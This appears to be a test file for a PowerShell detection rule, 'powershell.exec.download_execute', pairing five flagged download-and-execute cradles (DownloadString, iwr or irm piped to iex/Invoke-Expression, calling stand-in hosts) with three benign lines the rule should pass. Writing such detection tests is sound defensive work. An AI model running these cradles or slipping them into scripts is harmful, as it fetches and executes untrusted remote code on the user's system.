# Download and run, in every order and alias.
# ruleid: powershell.exec.download_execute
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')
# ruleid: powershell.exec.download_execute
Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://get.example.com/install.ps1).Content
# ruleid: powershell.exec.download_execute
iwr https://get.example.com/i.ps1 -useb | iex
# ruleid: powershell.exec.download_execute
irm https://example.org/setup.ps1 | Invoke-Expression
# ruleid: powershell.exec.download_execute
$s = (New-Object System.Net.WebClient).DownloadString($u) | iex
# ok: powershell.exec.download_execute
Invoke-WebRequest https://example.com/file.zip -OutFile file.zip
# ok: powershell.exec.download_execute
Invoke-Expression $localCommand
# ok: powershell.exec.download_execute
$complex = "iexplore"
